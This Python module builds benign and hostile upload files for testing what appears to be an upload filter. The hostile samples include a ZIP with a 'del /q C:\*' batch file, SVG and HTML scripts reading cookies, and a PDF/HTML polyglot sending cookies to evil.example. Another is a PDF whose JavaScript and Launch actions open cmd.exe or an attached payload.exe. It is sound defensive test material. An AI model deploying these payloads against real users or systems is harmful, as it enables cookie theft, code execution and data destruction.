"""Hostile and good upload files, built in code so that no binary fixture is committed.

Each function returns the bytes a phone or an attacker could send. The hostile ones mimic what
upload filters meet in the wild: renamed executables, script-bearing markup, archives, PDFs with
actions and attachments, polyglots, truncations, decompression bombs and photos carrying location.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from bff.domain.uploads.content import MAX_FILE_BYTES

# ---------------------------------------------------------------- good files


def plain_pdf(pages: int = 2) -> bytes:
    """A valid text PDF as an employer's letter software would make it."""
    buf = io.BytesIO()
    canvas = Canvas(buf, pagesize=A4)
    for number in range(1, pages + 1):
        canvas.setFont("Helvetica", 14)
        canvas.drawString(72, 760, f"Letter of employment - page {number}")
        canvas.rect(400, 100, 120, 120)  # where the seal would be
        canvas.showPage()
    canvas.save()
    return buf.getvalue()


def jpeg(width: int = 320, height: int = 240, color: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buf, "JPEG", quality=90)
    return buf.getvalue()


def png_with_alpha(width: int = 64, height: int = 48) -> bytes:
    """A half-transparent PNG: the transparent part must come back white."""
    im = Image.new("RGBA", (width, height), (0, 0, 255, 255))
    for x in range(width // 2):
        for y in range(height):
            im.putpixel((x, y), (0, 0, 0, 0))
    buf = io.BytesIO()
    im.save(buf, "PNG")
    return buf.getvalue()


def heic(width: int = 120, height: int = 80) -> bytes:
    """An iPhone-style HEIC photo; raises if this machine's pillow-heif cannot encode."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    buf = io.BytesIO()
    Image.new("RGB", (width, height), (10, 160, 10)).save(buf, "HEIF", quality=80)
    return buf.getvalue()


def signed_looking_pdf() -> bytes:
    """A letter whose seal was added as an incremental update, like a PAdES-sealed letter.

    Not a real signature, but the same shape: the first revision untouched, then an appended
    revision with a /Sig field (its widget shows the red seal) and a /ByteRange over the file.
    Any rewrite of the file would break a real one, so the original must come back byte for byte.
    """
    base = plain_pdf(1)
    writer = PdfWriter(io.BytesIO(base), incremental=True)
    page = writer.pages[0]
    seal = writer._add_object(_form_xobject(b"1 0 0 rg 0 0 100 100 re f"))
    sig_value = DictionaryObject({
        NameObject("/Type"): NameObject("/Sig"),
        NameObject("/Filter"): NameObject("/Adobe.PPKLite"),
        NameObject("/SubFilter"): NameObject("/ETSI.CAdES.detached"),
        NameObject("/ByteRange"): ArrayObject([NumberObject(0)] * 4),
        NameObject("/Contents"): TextStringObject("0" * 64),
    })
    widget = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/FT"): NameObject("/Sig"),
        NameObject("/T"): TextStringObject("Seal1"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (400, 100, 520, 220)]),
        NameObject("/F"): NumberObject(4),
        NameObject("/V"): writer._add_object(sig_value),
        NameObject("/AP"): DictionaryObject({NameObject("/N"): seal}),
        NameObject("/P"): page.indirect_reference,
    })
    ref = writer._add_object(widget)
    page[NameObject("/Annots")] = ArrayObject([ref])
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject([ref]),
        NameObject("/SigFlags"): NumberObject(3),
    })
    buf = io.BytesIO()
    writer.write(buf)
    signed = buf.getvalue()
    assert signed.startswith(base), "an incremental update appends to the first revision"
    return signed


def pdf_inherited_type3() -> bytes:
    """Legal but less common structure: /Resources and /MediaBox inherited from the page tree, and a
    Type3 font whose glyph procedures are named /A and /S (also names of action keys)."""
    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf(1)))
    page = writer.pages[0]
    pages_node = page["/Parent"].get_object()
    resources = page["/Resources"].get_object()
    glyph = writer._add_object(_form_xobject(b"500 0 0 0 500 700 d1 0 0 500 700 re f"))
    resources["/Font"].get_object()[NameObject("/T3")] = DictionaryObject({
        NameObject("/Type"): NameObject("/Font"),
        NameObject("/Subtype"): NameObject("/Type3"),
        NameObject("/CharProcs"): DictionaryObject({NameObject("/A"): glyph, NameObject("/S"): glyph}),
    })
    pages_node[NameObject("/Resources")] = writer._add_object(resources)
    pages_node[NameObject("/MediaBox")] = page["/MediaBox"]
    del page["/Resources"], page["/MediaBox"]
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


# ---------------------------------------------------------------- hostile files


def exe_renamed_pdf() -> bytes:
    """A PE executable header (MZ ... PE) that a person renamed to 信.pdf."""
    dos = b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 0x80)
    return dos.ljust(0x80, b"\x00") + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 400


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>fetch('/api/me').then(r=>r.text()).then(alert)</script></body></html>"


def svg_with_script() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>")


def zip_archive() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("letter.pdf", plain_pdf(1))
        zf.writestr("run.bat", "del /q C:\\*")
    return buf.getvalue()


def gif_image() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buf, "GIF")
    return buf.getvalue()


def pdf_with_actions() -> bytes:
    """JavaScript as /OpenAction, a /Launch link, page /AA, an attached .exe and a form."""
    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf(1)))
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    page = writer.pages[0]
    launch = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 600, 800)]),
        NameObject("/A"): DictionaryObject({
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
            NameObject("/Win"): DictionaryObject({NameObject("/F"): TextStringObject("cmd.exe")}),
        }),
    })
    js_action = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.launchURL('http://evil.example/')"),
    })
    attached = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/FileAttachment"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 30, 30)]),
        NameObject("/FS"): DictionaryObject({
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("x.exe"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(_form_xobject(b"MZ"))}),
        }),
    })
    blue_box = b"0 0 1 rg 0 0 90 40 re f"
    # A widget that shows something (must survive as a picture) but whose field runs script.
    widget = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/FT"): NameObject("/Btn"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 150, 100)]),
        NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(_form_xobject(blue_box))}),
        NameObject("/AA"): DictionaryObject({NameObject("/E"): js_action}),
        NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"),
                                            NameObject("/F"): TextStringObject("http://evil.example/")}),
    })
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(a) for a in (launch, attached, widget)])
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): js_action})
    # Hide an inert action in the page resources too: the scrubber must find it anywhere.
    resources = page["/Resources"].get_object()
    resources[NameObject("/Properties")] = DictionaryObject({NameObject("/MC0"): js_action})
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject([page["/Annots"][2]]),
        NameObject("/XFA"): TextStringObject("<xdp:xdp><script>evil()</script></xdp:xdp>"),
    })
    writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): js_action})
    # What writer.add_js did before pypdf 7: an /OpenAction script and a document-level JavaScript name tree.
    open_js = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Action"),
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("this.exportDataObject({cName: 'payload.exe', nLaunch: 2});"),
    }))
    writer._root_object[NameObject("/OpenAction")] = open_js
    names = writer._root_object["/Names"].get_object()  # made by add_attachment
    names[NameObject("/JavaScript")] = DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("run"), open_js]),
    })
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_html_polyglot() -> bytes:
    """Starts like a PDF, reads as HTML to a browser that sniffs: markup in a comment and after %%EOF."""
    pdf = plain_pdf(1)
    header, rest = pdf.split(b"\n", 1)
    script = b"<html><body><script>document.location='http://evil.example/?'+document.cookie</script></body></html>"
    return header + b"\n%" + script + b"\n" + rest + script + b"\n"


def pdf_html_in_content() -> bytes:
    """Markup inside an uncompressed page content stream: the polyglot that survives a naive page copy."""
    buf = io.BytesIO()
    canvas = Canvas(buf, pagesize=A4, pageCompression=0)
    canvas.drawString(72, 700, "<html><script>alert(document.cookie)</script></html>")
    canvas.showPage()
    canvas.save()
    return buf.getvalue()


def truncated_pdf() -> bytes:
    pdf = plain_pdf(2)
    return pdf[: len(pdf) // 2]


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf(1)))
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def too_many_pages_pdf(pages: int = 51) -> bytes:
    return plain_pdf(pages)


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG that declares 2.5 gigapixels in its IHDR but carries a few bytes of pixel data."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_with_gps(width: int = 200, height: int = 100) -> bytes:
    """A phone photo lying on its side (EXIF orientation 6) that tells where it was taken."""
    im = Image.new("RGB", (width, height), (255, 255, 255))
    for x in range(width // 4):  # a dark band on the left, to check the rotation direction
        for y in range(height):
            im.putpixel((x, y), (0, 0, 0))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to view
    exif[0x010F] = "Apple"
    exif[0x0110] = "iPhone 15"
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (39.0, 54.0, 27.0)
    gps[3] = "E"
    gps[4] = (116.0, 23.0, 50.0)
    buf = io.BytesIO()
    im.save(buf, "JPEG", exif=exif.tobytes(), quality=90)
    return buf.getvalue()


def photo_with_extras() -> bytes:
    """A JPEG with an ICC profile, XMP, a comment, and a ZIP appended after the end-of-image marker."""
    from PIL import ImageCms

    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/><exif:GPSLatitude>39,54N</exif:GPSLatitude></x:xmpmeta>'
    buf = io.BytesIO()
    Image.new("RGB", (80, 60), (120, 120, 120)).save(buf, "JPEG", icc_profile=icc, xmp=xmp, comment=b"secret note")
    return buf.getvalue() + zip_archive()


def png_with_metadata() -> bytes:
    """A PNG carrying an ICC profile, text chunks and an eXIf chunk with GPS."""
    from PIL import ImageCms, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "home address: ...")
    exif = Image.Exif()
    exif.get_ifd(0x8825)[2] = (39.0, 54.0, 27.0)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buf = io.BytesIO()
    Image.new("L", (40, 30), 128).save(buf, "PNG", pnginfo=info, exif=exif.tobytes(), icc_profile=icc)
    return buf.getvalue()


def oversized_file() -> bytes:
    """Exactly one byte over the limit, and otherwise a valid-looking PDF start."""
    return b"%PDF-1.7\n" + b"0" * (MAX_FILE_BYTES + 1 - 9)


def truncated_jpeg() -> bytes:
    data = jpeg(640, 480)
    return data[: len(data) // 2]


def _form_xobject(content: bytes) -> DecodedStreamObject:

    stream = DecodedStreamObject()
    stream.set_data(content)
    stream[NameObject("/Type")] = NameObject("/XObject")
    stream[NameObject("/Subtype")] = NameObject("/Form")
    stream[NameObject("/BBox")] = ArrayObject([FloatObject(v) for v in (0, 0, 100, 100)])
    return stream


def large_pdf(size: int) -> bytes:
    """A valid one-page PDF of about ``size`` bytes (an incompressible comment in its content stream)."""
    import secrets

    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    stream = DecodedStreamObject()
    stream.set_data(b"%" + secrets.token_hex(max(size - 1000, 2) // 2).encode() + b"\n")
    page[NameObject("/Contents")] = writer._add_object(stream)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()
